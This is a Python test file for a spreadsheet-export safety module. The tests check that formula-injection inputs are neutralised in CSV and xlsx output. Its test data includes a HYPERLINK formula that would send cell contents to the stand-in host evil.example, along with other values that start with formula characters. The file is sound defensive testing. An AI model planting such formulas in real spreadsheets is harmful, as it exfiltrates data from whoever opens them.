"""Spreadsheet exports: safe text, the gap-analysis workbook, and a real spreadsheet program reading it."""

from __future__ import annotations

import pytest
from openpyxl import Workbook, load_workbook

from cmmikit.xlsx_safe import MAX_CELL_TEXT, CellMaker, csv_text, safe_text, set_text

MALICIOUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+2", "-2-3", "=1+1",
             "\t=tab first", "plain text"]


def test_safe_text_strips_control_characters_but_keeps_line_breaks():
    assert safe_text("a\x00b\x07c\x1fd\te\nf\rg") == "abcd\te\nf\rg"
    assert safe_text(None) == "" and safe_text(3) == "3"


def test_safe_text_cuts_at_excels_cell_limit():
    text = safe_text("x" * (MAX_CELL_TEXT + 10))
    assert len(text) == MAX_CELL_TEXT and text.endswith("[...truncated]")


def test_csv_text_prefixes_formula_starts():
    assert [csv_text(t) for t in ("=1", "+1", "-1", "@x", "\tx", "ok")] == ["'=1", "'+1", "'-1", "'@x", "'\tx", "ok"]


@pytest.mark.parametrize("write_only", [False, True])
def test_user_text_comes_back_as_the_same_text(tmp_path, write_only):
    path = tmp_path / "t.xlsx"
    wb = Workbook(write_only=write_only)
    if write_only:
        ws = wb.create_sheet("T")
        make = CellMaker(ws)
        make.style("wrap", quotePrefix=False)
        for text in MALICIOUS:
            ws.append([make.text(text), make.text(text, "wrap")])
    else:
        ws = wb.active
        for row, text in enumerate(MALICIOUS, 1):
            set_text(ws.cell(row, 1), text)
            set_text(ws.cell(row, 2), text)
    wb.save(path)
    ws = load_workbook(path)[ws.title]
    for row, text in enumerate(MALICIOUS, 1):
        for col in (1, 2):
            cell = ws.cell(row, col)
            assert cell.value == text and cell.data_type == "s"
            assert bool(cell.quotePrefix) == text.startswith(("=", "+", "-", "@"))
